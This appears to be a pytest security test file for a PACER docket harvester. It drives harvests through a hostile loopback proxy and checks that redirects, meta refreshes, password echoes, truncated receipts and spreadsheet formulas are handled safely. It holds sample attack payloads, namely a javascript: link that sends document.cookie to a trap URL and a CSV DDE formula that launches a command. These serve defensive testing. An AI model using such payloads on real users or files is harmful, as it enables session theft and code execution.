"""A hostile PACER: whole harvests against a proxy that rewrites the sandbox's answers.

Meta refreshes and redirects to plain http, a login service that echoes the password,
receipts cut off, ``javascript:`` links and formula cells. Every server is on loopback.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from harvest_support import HarvestDir, billable_requests, start_sandbox
from hostile_support import Exchange, HostileProxy, Trap

from harvester.store.connection import open_db
from harvester.store.dockets import store_docket
from harvester.store.export import export


@pytest.fixture()
def trap():
    server = Trap()
    yield server
    server.close()


def harvest_through(tmp_path, mutate, **sandbox_options):
    sandbox = start_sandbox(tmp_path / "sandbox", cases=4, courts=("cand", "nysb"), **sandbox_options)
    proxy = HostileProxy(sandbox, mutate)
    work = HarvestDir.create(tmp_path / "run", sandbox, sections={"endpoints": proxy.endpoints()})
    return sandbox, proxy, work


def on_reports(mutation):
    """Apply ``mutation`` to the docket reports only."""

    def mutate(exchange: Exchange) -> None:
        if "DktRpt" in exchange.path and exchange.status == 200 and exchange.method == "POST":
            mutation(exchange)

    return mutate


def test_a_meta_refresh_to_plain_http_is_never_followed_and_never_gets_the_cookie(tmp_path, trap):
    def inject(exchange: Exchange) -> None:
        refresh = f'<meta http-equiv="refresh" content="0;url={trap.url}/steal">'.encode()
        exchange.body = re.sub(rb"(?i)<head>", b"<head>" + refresh, exchange.body, count=1)

    sandbox, proxy, work = harvest_through(tmp_path, on_reports(inject))
    try:
        result = work.run()
        assert "Traceback" not in result.stderr
        assert billable_requests(sandbox), "the reports were fetched"
        assert trap.hits == [], f"a refresh was followed: {trap.hits}"
    finally:
        proxy.close()
        sandbox.stop()


def test_an_http_redirect_to_plain_http_is_not_followed(tmp_path, trap):
    def redirect(exchange: Exchange) -> None:
        exchange.status, exchange.body = 302, b""
        exchange.headers["Location"] = f"{trap.url}/steal"

    sandbox, proxy, work = harvest_through(tmp_path, on_reports(redirect))
    try:
        result = work.run()
        assert "Traceback" not in result.stderr
        assert trap.hits == []
    finally:
        proxy.close()
        sandbox.stop()


def test_javascript_links_are_stored_inert_and_never_fetched(tmp_path, trap):
    link = f"<a href=\"javascript:fetch('{trap.url}/steal?'+document.cookie)\">1</a>".encode()

    def inject(exchange: Exchange) -> None:
        exchange.body = re.sub(rb"(?i)<body([^>]*)>", rb"<body\1>" + link, exchange.body, count=1)

    sandbox, proxy, work = harvest_through(tmp_path, on_reports(inject))
    try:
        result = work.run()
        assert result.returncode == 0, result.stdout + result.stderr[-2000:]
        assert trap.hits == []
    finally:
        proxy.close()
        sandbox.stop()


def test_a_login_service_that_echoes_the_password_never_gets_it_stored_or_printed(tmp_path):
    echoed: list[str] = []

    def echo(exchange: Exchange) -> None:
        if exchange.path.endswith("/services/cso-auth"):
            password = json.loads(exchange.request_body)["password"]
            echoed.append(password)
            exchange.body = json.dumps({"loginResult": "13",
                                        "errorDescription": f"Login failed for password {password}"}).encode()

    sandbox, proxy, work = harvest_through(tmp_path, echo)
    try:
        result = work.run()
        assert result.returncode == 5, result.stdout + result.stderr[-2000:]
        assert echoed, "the login was tried"
        password = echoed[0]
        status = work.run("status", "--config", str(work.config), "--json")
        conn = work.connect()
        rows = conn.execute("SELECT message, gates FROM runs").fetchall()
        conn.close()
        refusal = work.root / "data" / "state" / "login-refused.json"
        places = {"stdout": result.stdout, "stderr": result.stderr, "runs": json.dumps(rows),
                  "status --json": status.stdout, "log": work.log_path.read_text()}  # fmt: skip
        if refusal.exists():
            places["login-refused.json"] = refusal.read_text()
        leaked = [where for where, text in places.items() if password in text]
        assert leaked == [], f"the echoed password reached: {leaked}"
        assert "Login failed for password ********" in result.stdout
    finally:
        proxy.close()
        sandbox.stop()


def test_reports_without_a_readable_receipt_are_booked_at_the_estimate(tmp_path):
    def cut(exchange: Exchange) -> None:
        exchange.body = exchange.body[: len(exchange.body) // 2]  # no receipt, no </html>

    sandbox, proxy, work = harvest_through(tmp_path, on_reports(cut))
    try:
        work.run()
        conn = work.connect()
        rows = conn.execute("SELECT outcome, cost, estimated_pages FROM requests WHERE url LIKE '%DktRpt%'"
                            " AND status = 200").fetchall()  # fmt: skip
        gates, run_cost = conn.execute("SELECT gates, cost FROM runs ORDER BY id DESC LIMIT 1").fetchone()
        conn.close()
        assert rows and all(outcome == "truncated" for outcome, _, _ in rows)
        assert all(cost is not None and cost > 0 for _, cost, _ in rows), f"a billed page booked as NULL: {rows}"
        assert all(cost <= pages * 0.10 + 1e-9 for _, cost, pages in rows)
        booked = json.loads(gates)["gate/budget/run_dollars"]
        assert run_cost == pytest.approx(booked), "the ledger sums what the gate counted"
        status = json.loads(work.run("status", "--config", str(work.config), "--json").stdout)
        assert json.dumps(status).count(f"{booked}") >= 1 or booked == 0
    finally:
        proxy.close()
        sandbox.stop()


def test_formula_cells_are_exported_as_text(tmp_path):
    db = open_db(tmp_path / "pacer.db")
    record = {"case_name": "=HYPERLINK(\"http://127.0.0.1:9/x\",\"open\")", "docket_number": "3:20-cv-00001",
              "docket_entries": [{"document_number": "1", "date_filed": "2020-01-02", "description": "+1+cmd|' /C calc'!A0"},
                                 {"document_number": "2", "date_filed": "2020-01-03", "description": "-2+3"},
                                 {"document_number": "3", "date_filed": "2020-01-04", "description": "@SUM(A1)"}],
              "parties": []}  # fmt: skip
    store_docket(db, "cand", "1", record)
    out = io.StringIO()
    export(db, out, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    cells = [row["case_name"] for row in rows] + [row["description"] for row in rows]
    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == [], f"cells a spreadsheet would run as formulas: {risky}"
    assert rows[0]["case_name"] == "'=HYPERLINK(\"http://127.0.0.1:9/x\",\"open\")"


def test_cut_receipts_night_after_night_never_overspend_the_quarter(tmp_path):
    def cut(exchange: Exchange) -> None:
        exchange.body = exchange.body[: len(exchange.body) // 2]

    sandbox, proxy, work = harvest_through(tmp_path, on_reports(cut))
    work = HarvestDir.create(work.root, sandbox, sections={"endpoints": proxy.endpoints(),
                                                           "budget": {"run_dollars": 6.0, "quarter_dollars": 10.0}})
    try:
        for _night in range(4):  # the truncated dockets are never stored: each night asks again
            work.run()
        billed = sum(r["cost"] for r in billable_requests(sandbox))
        conn = work.connect()
        booked = conn.execute("SELECT coalesce(sum(cost), 0) FROM requests").fetchone()[0]
        conn.close()
        assert billed > 0
        assert billed <= 10.0 + 1e-9, f"${billed:.2f} billed with a $10.00 quarter cap"
        assert booked >= billed - 1e-9, "the ledger knows at least what was billed"
    finally:
        proxy.close()
        sandbox.stop()
